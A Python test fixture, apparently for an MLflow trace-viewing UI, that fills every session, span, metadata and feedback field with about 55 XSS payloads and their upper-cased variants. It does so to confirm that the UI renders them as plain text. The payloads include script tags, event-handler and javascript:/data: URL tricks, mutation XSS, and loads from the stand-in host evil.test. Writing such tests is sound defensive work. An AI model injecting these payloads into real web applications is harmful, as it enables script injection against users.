"""A session whose every text field carries markup that would run, load or restyle something if it were ever
treated as HTML, a URL, markdown or CSS: the end-to-end XSS test reads it through the real UI.

Each payload, if it ever ran, calls `__lensXss(<n>)` (the test defines it in the page and counts the calls) or
asks for a URL under http://evil.test/ (the test counts requests that leave the MLflow server).
"""

import time

import mlflow
from mlflow.entities import AssessmentSource

SESSION_KEY = "mlflow.trace.session"
USER_KEY = "mlflow.trace.user"
REVIEWER = AssessmentSource(source_type="HUMAN", source_id="<img src=x onerror=__lensXss(0)>")

# Templates in the classes of the OWASP XSS filter evasion cheat sheet, mutation XSS, SVG and MathML,
# javascript: and data: URLs, markdown links and images, and CSS. `{n}` is the payload's number.
TEMPLATES = [
    "<script>__lensXss({n})</script>",
    "<SCRIPT SRC=http://evil.test/{n}.js></SCRIPT>",
    "<img src=x onerror=__lensXss({n})>",
    "<IMG SRC=\"javascript:__lensXss({n});\">",
    "<IMG SRC=JaVaScRiPt:__lensXss({n})>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__lensXss({n})>",
    "<IMG SRC=\"jav&#x09;ascript:__lensXss({n});\">",
    "<<SCRIPT>__lensXss({n});//<</SCRIPT>",
    "<svg onload=__lensXss({n})>",
    "<svg><script>__lensXss({n})</script></svg>",
    "<svg><animate onbegin=__lensXss({n}) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__lensXss({n})>",
    "<noscript><p title=\"</noscript><img src=x onerror=__lensXss({n})>\">",
    "<iframe src=\"javascript:__lensXss({n})\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__lensXss({n})</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19sZW5zWHNzKDEpPC9zY3JpcHQ+\"></object>",
    "<embed src=\"http://evil.test/{n}.swf\">",
    "<a href=\"javascript:__lensXss({n})\">click</a>",
    "<a href=\"data:text/html,<script>__lensXss({n})</script>\">data</a>",
    "[markdown link](javascript:__lensXss({n}))",
    "![markdown image](http://evil.test/{n}.png)",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<style>@import 'http://evil.test/{n}.css';</style>",
    "<div style=\"background:url(http://evil.test/{n}.gif)\">styled</div>",
    "<div style=\"width: expression(__lensXss({n}))\">ie</div>",
    "<link rel=stylesheet href=http://evil.test/{n}.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__lensXss({n})\">",
    "<base href=\"http://evil.test/{n}/\">",
    "<form action=\"http://evil.test/{n}\"><button>send</button></form>",
    "<details open ontoggle=__lensXss({n})>",
    "<video><source onerror=__lensXss({n})></video>",
    "<audio src=x onerror=__lensXss({n})>",
    "<body onload=__lensXss({n})>",
    "<input autofocus onfocus=__lensXss({n})>",
    "<marquee onstart=__lensXss({n})>m</marquee>",
    "\"><script>__lensXss({n})</script>",
    "'><img src=x onerror=__lensXss({n})>",
    "</textarea><script>__lensXss({n})</script>",
    "\" onmouseover=\"__lensXss({n})\" x=\"",
    "javascript:__lensXss({n})",
    "{{{{constructor.constructor('__lensXss({n})')()}}}}",
    "${{__lensXss({n})}}",
    "<img src=\"http://evil.test/{n}.gif\">",
    "&lt;script&gt;__lensXss({n})&lt;/script&gt;",
    "\\u003cscript\\u003e__lensXss({n})\\u003c/script\\u003e",
    "%3Cscript%3E__lensXss({n})%3C%2Fscript%3E",
    "<scr<script>ipt>__lensXss({n})</scr</script>ipt>",
    "<x onclick=__lensXss({n})>click me</x>",
    "<template><img src=x onerror=__lensXss({n})></template>",
    "<!--<img src=\"--><img src=x onerror=__lensXss({n})//\">",
    "<img/src=\"x\"/onerror=\"__lensXss({n})\">",
    "<svg><a xlink:href=\"javascript:__lensXss({n})\"><text x=\"0\" y=\"20\">svg link</text></a></svg>",
    "<math href=\"javascript:__lensXss({n})\">math</math>",
    "<isindex type=image src=1 onerror=__lensXss({n})>",
    "<table background=\"javascript:__lensXss({n})\">",
]
PAYLOADS = [template.format(n=index + 1) for index, template in enumerate(TEMPLATES)]
# Each template again with every tag name upper-cased, so filters matching on case alone are covered too.
PAYLOADS += [template.format(n=len(TEMPLATES) + index + 1).upper().replace("__LENSXSS", "__lensXss") for index, template in enumerate(TEMPLATES)]
PER_TURN = 10


def _chunks(items, size):
    return [items[start : start + size] for start in range(0, len(items), size)]


def hostile_turn(session_id, payloads):
    """One turn whose every field holds some of the payloads."""

    @mlflow.trace(name=payloads[0], span_type="CHAIN")
    def turn(question: str) -> str:
        mlflow.update_current_trace(metadata={SESSION_KEY: session_id, USER_KEY: payloads[1]})
        root = mlflow.get_current_active_span()
        for payload in payloads:
            root.set_attribute(payload, payload)
        with mlflow.start_span(name=payloads[2], span_type="RETRIEVER") as span:
            span.set_inputs({"query": question})
            span.set_outputs([{"page_content": payload, "metadata": {"doc_id": payload}} for payload in payloads])
        for payload in payloads[:4]:
            try:
                with mlflow.start_span(name=payload, span_type="TOOL") as span:
                    span.set_inputs({payload: payload})
                    raise RuntimeError(payload)
            except RuntimeError:
                pass
        return "\n".join(payloads)

    turn("\n".join(payloads))
    trace_id = mlflow.get_last_active_trace_id()
    time.sleep(0.01)
    return trace_id


def seed_hostile(tracking_uri):
    experiment_id = mlflow.set_experiment("Hostile traces (Session Lens)").experiment_id
    session_id = PAYLOADS[0]
    turns = []
    for group in _chunks(PAYLOADS, PER_TURN):
        turns.append({"traceId": hostile_turn(session_id, group), "payloads": group})
    # Other sessions whose id itself is markup, to be found and shown as text.
    id_sessions = []
    for payload in PAYLOADS[1:4]:
        id_sessions.append({"sessionId": payload, "traceId": hostile_turn(payload, PAYLOADS[:PER_TURN])})
    mlflow.flush_trace_async_logging()
    for turn in turns:
        for payload in turn["payloads"]:
            mlflow.log_feedback(trace_id=turn["traceId"], name=payload, value=payload, rationale=payload, source=REVIEWER)
    return {"experimentId": experiment_id, "sessionId": session_id, "turns": turns, "idSessions": id_sessions, "payloads": PAYLOADS}
